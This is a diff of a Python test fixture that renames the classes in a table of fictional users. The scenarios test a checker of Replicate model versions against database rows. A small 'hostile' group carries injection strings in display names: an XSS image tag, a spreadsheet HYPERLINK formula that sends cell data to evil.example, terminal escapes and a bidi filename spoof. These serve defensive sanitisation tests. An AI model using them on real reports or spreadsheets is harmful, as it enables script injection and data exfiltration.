@@ -26,7 +26,7 @@ SAME_BEGINNING: Final = "50c1f7a2"
 """Two user ids begin with these digits, and an application that shortens ids gives both the same model."""
 
 
-class More(msgspec.Struct, frozen=True, kw_only=True):
+class FurtherRow(msgspec.Struct, frozen=True, kw_only=True):
     """A further row of a user."""
 
     status: str = "completed"
@@ -37,7 +37,7 @@ class More(msgspec.Struct, frozen=True, kw_only=True):
     row: Mapping[str, Any] = {}
 
 
-class Case(msgspec.Struct, frozen=True, kw_only=True):
+class Scenario(msgspec.Struct, frozen=True, kw_only=True):
     """A user, what Replicate has of the user's model, and the verdict that must come out."""
 
     name: str
@@ -57,7 +57,7 @@ class Case(msgspec.Struct, frozen=True, kw_only=True):
     """How many days ago the row was last edited, where that was not at the end of the training."""
     status: str | None = "completed"
     """None: the user has no row but `more`."""
-    more: tuple[More, ...] = ()
+    more: tuple[FurtherRow, ...] = ()
     exists: bool = True
     public: bool = False
     lists_versions: bool = True
@@ -79,19 +79,19 @@ def _notes(*notes: Note) -> frozenset[Note]:
 
 
 _PLAIN = (
-    Case(name="Mara Lindqvist", shows="the usual case: one training, one version", versions=(31,)),
-    Case(name="Tomas Herrera", shows="three trainings, the last one recorded", versions=(4, 62, 140)),
-    Case(name="Ada Okafor", shows="one more who is up to date", versions=(9,)),
-    Case(name="Jonas Weber", shows="one more who is up to date", versions=(77, 78)),
-    Case(name="Fatima Alsayed", shows="one more who is up to date", versions=(2,)),
-    Case(name="Priya Raman", shows="more versions than a report prints", versions=tuple(range(3, 45, 3))),
-    Case(name="Chloe Dubois", shows="three pages of versions", versions=tuple(range(1, 61))),
-    Case(name="Liam Murphy", shows="no display name", shown_name=None),
-    Case(name="Sofia Rossi", shows="no e-mail", email=None),
-    Case(name="Kenji Watanabe", shows="is_test null means no test", row={"is_test": None}),
+    Scenario(name="Mara Lindqvist", shows="the usual case: one training, one version", versions=(31,)),
+    Scenario(name="Tomas Herrera", shows="three trainings, the last one recorded", versions=(4, 62, 140)),
+    Scenario(name="Ada Okafor", shows="one more who is up to date", versions=(9,)),
+    Scenario(name="Jonas Weber", shows="one more who is up to date", versions=(77, 78)),
+    Scenario(name="Fatima Alsayed", shows="one more who is up to date", versions=(2,)),
+    Scenario(name="Priya Raman", shows="more versions than a report prints", versions=tuple(range(3, 45, 3))),
+    Scenario(name="Chloe Dubois", shows="three pages of versions", versions=tuple(range(1, 61))),
+    Scenario(name="Liam Murphy", shows="no display name", shown_name=None),
+    Scenario(name="Sofia Rossi", shows="no e-mail", email=None),
+    Scenario(name="Kenji Watanabe", shows="is_test null means no test", row={"is_test": None}),
 )
 _OUTDATED = (
-    Case(
+    Scenario(
         name="Noah Kim",
         shows="200 days behind",
         reason=Reason.OUTDATED_VERSION,
@@ -99,7 +99,7 @@ _OUTDATED = (
         versions=(3, 203),
         recorded=1,
     ),
-    Case(
+    Scenario(
         name="Elena Petrova",
         shows="one behind",
         reason=Reason.OUTDATED_VERSION,
@@ -107,7 +107,7 @@ _OUTDATED = (
         versions=(1, 30, 60),
         recorded=1,
     ),
-    Case(
+    Scenario(
         name="Marcus Johnson",
         shows="seven behind",
         reason=Reason.OUTDATED_VERSION,
@@ -115,7 +115,7 @@ _OUTDATED = (
         versions=(2, 9, 16, 23, 30, 37, 44, 51),
         recorded=7,
     ),
-    Case(
+    Scenario(
         name="Ingrid Solberg",
         shows="behind, although the row was edited today: an edit sets updated_at and changes no version",
         reason=Reason.OUTDATED_VERSION,
@@ -124,16 +124,16 @@ _OUTDATED = (
         recorded=1,
         edited_days=0.1,
     ),
-    Case(
+    Scenario(
         name="Dmitri Volkov",
         shows="the last training succeeded, and its result was never recorded",
         reason=Reason.OUTDATED_VERSION,
         notes=_notes(Note.RETRAINING_IN_PROGRESS, Note.UNRECORDED_TRAINING),
         versions=(6, 48),
         recorded=1,
-        more=(More(status="training", days=6.02),),
+        more=(FurtherRow(status="training", days=6.02),),
     ),
-    Case(
+    Scenario(
         name="Wanjiru Mwangi",
         shows="the newer version was pushed by hand, no training made it",
         reason=Reason.OUTDATED_VERSION,
@@ -142,7 +142,7 @@ _OUTDATED = (
         recorded=1,
         by_hand=True,
     ),
-    Case(
+    Scenario(
         name="Beatriz Costa",
         shows="the API lists the versions in another order: the newest date counts",
         reason=Reason.OUTDATED_VERSION,
@@ -153,15 +153,15 @@ _OUTDATED = (
     ),
 )
 _RECORDED_VALUES = (
-    Case(name="Oliver Brandt", shows="the hash in upper case", upper=True),
-    Case(name="Yusuf Demir", shows="the hash padded with blanks", recorded="  {0} \n"),
-    Case(
+    Scenario(name="Oliver Brandt", shows="the hash in upper case", upper=True),
+    Scenario(name="Yusuf Demir", shows="the hash padded with blanks", recorded="  {0} \n"),
+    Scenario(
         name="Grace Achieng",
         shows="owner/name: in front of the hash",
         notes=_notes(Note.QUALIFIED_VERSION),
         recorded="{model}:{0}",
     ),
-    Case(
+    Scenario(
         name="Hannah Fischer",
         shows="the hash of another model, and the prefix says so",
         reason=Reason.UNKNOWN_VERSION,
@@ -173,56 +173,56 @@ _RECORDED_VALUES = (
         ),
         recorded=f"{ACCOUNT}/house-style:{version_hash('house style')}",
     ),
-    Case(
+    Scenario(
         name="Rafael Moreno",
         shows="a version that was deleted",
         reason=Reason.UNKNOWN_VERSION,
         notes=_notes(Note.UNRECORDED_TRAINING, Note.WEIGHTS_URL_OF_ANOTHER_VERSION),
         recorded=version_hash("deleted last spring"),
     ),
-    Case(
+    Scenario(
         name="Amelia Clarke",
         shows="the hash of another user's model, without a prefix",
         reason=Reason.UNKNOWN_VERSION,
         notes=_notes(Note.UNRECORDED_TRAINING, Note.WEIGHTS_URL_OF_ANOTHER_VERSION),
         recorded=version_hash("Mara Lindqvist 31"),
     ),
-    Case(
+    Scenario(
         name="Lucas Silva",
         shows="8 digits of the hash",
         reason=Reason.MALFORMED_VERSION,
         notes=_notes(Note.UNRECORDED_TRAINING),
         recorded="{0:.8}",
     ),
-    Case(
+    Scenario(
         name="Aisha Bello",
         shows="the word latest",
         reason=Reason.MALFORMED_VERSION,
         notes=_notes(Note.UNRECORDED_TRAINING),
         recorded="latest",
     ),
-    Case(
+    Scenario(
         name="Pierre Laurent",
         shows="the URL of a version",
         reason=Reason.MALFORMED_VERSION,
         notes=_notes(Note.UNRECORDED_TRAINING),
         recorded="https://replicate.com/{model}/versions/{0}",
     ),
-    Case(
+    Scenario(
         name="Zofia Nowak",
         shows="no version: null",
         reason=Reason.NO_VERSION_RECORDED,
         notes=_notes(Note.UNRECORDED_TRAINING),
         recorded=None,
     ),
-    Case(
+    Scenario(
         name="Samuel Osei",
         shows="no version: blanks",
         reason=Reason.NO_VERSION_RECORDED,
         notes=_notes(Note.UNRECORDED_TRAINING),
         recorded="   ",
     ),
-    Case(
+    Scenario(
         name="Mei Tanaka",
         shows="no version, and that is said even where Replicate fails",
         reason=Reason.NO_VERSION_RECORDED,
@@ -231,63 +231,65 @@ _RECORDED_VALUES = (
     ),
 )
 _MODEL_IDS = (
-    Case(
+    Scenario(
         name="Isabella Conti",
         shows="no model id: null",
         reason=Reason.MISSING_MODEL_ID,
         row={"replicate_model_id": None},
     ),
-    Case(
+    Scenario(
         name="Viktor Hansen",
         shows="no model id: blanks; wins over the version that is missing too",
         reason=Reason.MISSING_MODEL_ID,
         recorded=None,
         row={"replicate_model_id": "  "},
     ),
-    Case(
+    Scenario(
         name="Layla Haddad",
         shows="a URL",
         reason=Reason.INVALID_MODEL_ID,
         row={"replicate_model_id": "https://replicate.com/{model}"},
     ),
-    Case(
+    Scenario(
         name="Ethan Wright", shows="a bare name", reason=Reason.INVALID_MODEL_ID, row={"replicate_model_id": "{name}"}
     ),
-    Case(
+    Scenario(
         name="Freya Jensen",
         shows="a newline in the name",
         reason=Reason.INVALID_MODEL_ID,
         row={"replicate_model_id": ACCOUNT + "/\n{name}"},
     ),
-    Case(
+    Scenario(
         name="Diego Alvarez",
         shows="three parts",
         reason=Reason.INVALID_MODEL_ID,
         row={"replicate_model_id": "{model}/versions"},
     ),
-    Case(
+    Scenario(
         name="Nadia Rahman",
         shows="a space in the name",
         reason=Reason.INVALID_MODEL_ID,
         row={"replicate_model_id": ACCOUNT + "/nadia selfie lora"},
     ),
-    Case(
+    Scenario(
         name="Hugo Martin",
         shows="blanks and a newline around a right id do no harm",
         row={"replicate_model_id": "  {model}\n"},
     ),
 )
 _ON_REPLICATE = (
-    Case(name="Clara Schmidt", shows="the model was deleted", reason=Reason.MODEL_NOT_FOUND, exists=False),
-    Case(
+    Scenario(name="Clara Schmidt", shows="the model was deleted", reason=Reason.MODEL_NOT_FOUND, exists=False),
+    Scenario(
         name="Owen Davies",
         shows="a private model of another account: 404, as if it were not there",
         reason=Reason.MODEL_NOT_FOUND,
         notes=_notes(Note.OWNER_DIFFERS_FROM_ACCOUNT),
         owner="acme-labs",
     ),
-    Case(name="Yara Mansour", shows="a model without a version", reason=Reason.NO_VERSIONS, versions=(), recorded=None),
-    Case(
+    Scenario(
+        name="Yara Mansour", shows="a model without a version", reason=Reason.NO_VERSIONS, versions=(), recorded=None
+    ),
+    Scenario(
         name="Filip Novak",
         shows="a model without a version, whose list answers 404",
         reason=Reason.NO_VERSIONS,
@@ -295,7 +297,7 @@ _ON_REPLICATE = (
         recorded=version_hash("never arrived"),
         lists_versions=False,
     ),
-    Case(
+    Scenario(
         name="Emma Larsson",
         shows="an official model: only its latest version is public",
         notes=_notes(Note.OWNER_DIFFERS_FROM_ACCOUNT),
@@ -305,7 +307,7 @@ _ON_REPLICATE = (
         public=True,
         lists_versions=False,
     ),
-    Case(
+    Scenario(
         name="Mateo Garcia",
         shows="a public model of somebody else",
         reason=Reason.OUTDATED_VERSION,
@@ -316,34 +318,34 @@ _ON_REPLICATE = (
         model_name="analog-portrait",
         public=True,
     ),
-    Case(name="Anika Sharma", shows="the API lists hashes in upper case", versions=(22, 41), faults=(UpperCase(),)),
-    Case(
+    Scenario(name="Anika Sharma", shows="the API lists hashes in upper case", versions=(22, 41), faults=(UpperCase(),)),
+    Scenario(
         name="Leo Fontaine", shows="versions without dates: the API's order counts", versions=(7, 21), faults=(Dates(),)
     ),
 )
 _SERVICE = (
-    Case(name="Ruth Abrams", shows="401 for one model", reason=Reason.UNAUTHORIZED, faults=(Refused(status=401),)),
-    Case(name="Theo Papadakis", shows="403", reason=Reason.FORBIDDEN, faults=(Refused(status=403),)),
-    Case(name="Nina Kovacs", shows="422", reason=Reason.REJECTED, faults=(Refused(status=422),)),
-    Case(name="Ibrahim Toure", shows="429 every time", reason=Reason.RATE_LIMITED, faults=(Throttled(wait=1),)),
-    Case(
+    Scenario(name="Ruth Abrams", shows="401 for one model", reason=Reason.UNAUTHORIZED, faults=(Refused(status=401),)),
+    Scenario(name="Theo Papadakis", shows="403", reason=Reason.FORBIDDEN, faults=(Refused(status=403),)),
+    Scenario(name="Nina Kovacs", shows="422", reason=Reason.REJECTED, faults=(Refused(status=422),)),
+    Scenario(name="Ibrahim Toure", shows="429 every time", reason=Reason.RATE_LIMITED, faults=(Throttled(wait=1),)),
+    Scenario(
         name="Alice Moreau",
         shows="503 every time, with a page of the edge",
         reason=Reason.SERVER_ERROR,
         faults=(Refused(status=503, body="html"),),
     ),
-    Case(
+    Scenario(
         name="George Ivanov", shows="502 once; the retry succeeds", faults=(Refused(status=502, body="html", times=1),)
     ),
-    Case(name="Stella Rojas", shows="no answer", reason=Reason.TIMEOUT, faults=(Hang(),)),
-    Case(name="Anton Kuznetsov", shows="the connection is reset", reason=Reason.NETWORK_ERROR, faults=(Reset(),)),
-    Case(
+    Scenario(name="Stella Rojas", shows="no answer", reason=Reason.TIMEOUT, faults=(Hang(),)),
+    Scenario(name="Anton Kuznetsov", shows="the connection is reset", reason=Reason.NETWORK_ERROR, faults=(Reset(),)),
+    Scenario(
         name="Bianca Ferrari",
         shows="200 with a page that is no JSON",
         reason=Reason.BAD_RESPONSE,
         faults=(Odd(content=b"<title>Just a moment...</title>", content_type="text/html"),),
     ),
-    Case(
+    Scenario(
         name="Cedric Baker",
         shows="the next page is on another host: not followed, for the token would go there too",
         reason=Reason.BAD_RESPONSE,
@@ -352,7 +354,7 @@ _SERVICE = (
     ),
 )
 _ROWS = (
-    Case(
+    Scenario(
         name="Sarah Cohen",
         shows="shares a model with Daniel Stone, whose training came later and replaced this face",
         reason=Reason.OUTDATED_VERSION,
@@ -361,77 +363,81 @@ _ROWS = (
         recorded=1,
         id_begins=SAME_BEGINNING,
     ),
-    Case(
+    Scenario(
         name="Daniel Stone",
         shows="shares a model with Sarah Cohen",
         notes=_notes(Note.SHARED_MODEL),
         versions=(10, 25),
         id_begins=SAME_BEGINNING,
     ),
-    Case(
+    Scenario(
         name="Julia Becker",
         shows="a retraining is going on",
         notes=_notes(Note.RETRAINING_IN_PROGRESS),
-        more=(More(status="processing", days=0.02),),
+        more=(FurtherRow(status="processing", days=0.02),),
     ),
-    Case(
+    Scenario(
         name="Arjun Patel",
         shows="a later training failed",
         notes=_notes(Note.LATER_TRAINING_FAILED),
-        more=(More(status="failed", days=2, row={"failure_reason": "CUDA out of memory. Tried to allocate 2.00 GiB"}),),
+        more=(
+            FurtherRow(
+                status="failed", days=2, row={"failure_reason": "CUDA out of memory. Tried to allocate 2.00 GiB"}
+            ),
+        ),
     ),
-    Case(
+    Scenario(
         name="Camille Petit",
         shows="older completed rows of the same user are left alone",
         notes=_notes(Note.OLDER_MODELS_HIDDEN),
         versions=(5, 50, 95),
-        more=(More(days=50, recorded=1), More(days=95, recorded=2)),
+        more=(FurtherRow(days=50, recorded=1), FurtherRow(days=95, recorded=2)),
     ),
-    Case(
+    Scenario(
         name="Peter Vogel",
         shows="a newer test row does not count",
         versions=(3, 30),
         recorded=0,
-        more=(More(days=1, recorded=1, row={"is_test": True}),),
+        more=(FurtherRow(days=1, recorded=1, row={"is_test": True}),),
     ),
-    Case(
+    Scenario(
         name="Lena Hoffmann",
         shows="an old row without updated_at, which a naive ORDER BY would put first",
         notes=_notes(Note.UNDATED_ROW, Note.OLDER_MODELS_HIDDEN),
         versions=(14, 110),
-        more=(More(days=110, recorded=1, row={"updated_at": None}),),
+        more=(FurtherRow(days=110, recorded=1, row={"updated_at": None}),),
     ),
-    Case(
+    Scenario(
         name="Omar Farouk",
         shows="the only row has no date at all",
         notes=_notes(Note.UNDATED_ROW),
         row={"updated_at": None, "completed_at": None, "created_at": None},
     ),
-    Case(
+    Scenario(
         name="Lena Vogel",
         shows="the recorded trigger word is not the one that the training used",
         notes=_notes(Note.TRIGGER_WORD_DIFFERS),
         row={"trigger_word": "LENA"},
     ),
-    Case(
+    Scenario(
         name="Eva Horvath",
         shows="no trigger word: the likeness will not show, though the version is right",
         notes=_notes(Note.MISSING_TRIGGER_WORD),
         row={"trigger_word": None},
     ),
-    Case(
+    Scenario(
         name="Simon Keller",
         shows="a LoRA scale far from 1",
         notes=_notes(Note.UNUSUAL_LORA_SCALE),
         row={"lora_scale": Decimal("2.5")},
     ),
-    Case(
+    Scenario(
         name="Maya Greenberg",
         shows="no weights URL",
         notes=_notes(Note.MISSING_WEIGHTS_URL),
         row={"lora_weights_url": None},
     ),
-    Case(
+    Scenario(
         name="Victor Almeida",
         shows="a weights URL guessed from the hash; and one behind",
         reason=Reason.OUTDATED_VERSION,
@@ -442,18 +448,20 @@ _ROWS = (
     ),
 )
 _HOSTILE = (
-    Case(name="Mallory Html", shows="HTML in a name", shown_name="<img src=x onerror=alert(1)>"),
-    Case(
+    Scenario(name="Mallory Html", shows="HTML in a name", shown_name="<img src=x onerror=alert(1)>"),
+    Scenario(
         name="Mallory Formula",
         shows="a formula in a name",
         shown_name='=HYPERLINK("https://evil.example/?"&A1,"click me")',
     ),
-    Case(name="Mallory Ansi", shows="terminal escapes in a name", shown_name="\x1b[2J\x1b[31mall is well\x1b[0m\x07"),
-    Case(name="Mallory Bidi", shows="a bidirectional override in a name", shown_name="\u202etxt.exe\u202c Mallory"),
+    Scenario(
+        name="Mallory Ansi", shows="terminal escapes in a name", shown_name="\x1b[2J\x1b[31mall is well\x1b[0m\x07"
+    ),
+    Scenario(name="Mallory Bidi", shows="a bidirectional override in a name", shown_name="\u202etxt.exe\u202c Mallory"),
 )
 _IN_NO_REPORT = (
-    Case(name="Paul Nguyen", shows="signed up, trained nothing", reason=None, status=None, exists=False),
-    Case(
+    Scenario(name="Paul Nguyen", shows="signed up, trained nothing", reason=None, status=None, exists=False),
+    Scenario(
         name="Rosa Jimenez",
         shows="the first training waits",
         reason=None,
@@ -461,7 +469,7 @@ _IN_NO_REPORT = (
         exists=False,
         recorded=None,
     ),
-    Case(
+    Scenario(
         name="Karim Aziz",
         shows="the only training failed",
         reason=None,
@@ -470,13 +478,15 @@ _IN_NO_REPORT = (
         recorded=None,
         row={"failure_reason": "The archive holds no images"},
     ),
-    Case(
+    Scenario(
         name="Helena Costa", shows="a row made by hand says Completed, and is missed", reason=None, status="Completed"
     ),
-    Case(name="Ian Fraser", shows="a row made by hand says succeeded, and is missed", reason=None, status="succeeded"),
-    Case(name="Test Account", shows="only a test row", reason=None, row={"is_test": True}),
+    Scenario(
+        name="Ian Fraser", shows="a row made by hand says succeeded, and is missed", reason=None, status="succeeded"
+    ),
+    Scenario(name="Test Account", shows="only a test row", reason=None, row={"is_test": True}),
 )
-CAST: Final = (
+SCENARIOS: Final = (
     *_PLAIN,
     *_OUTDATED,
     *_RECORDED_VALUES,
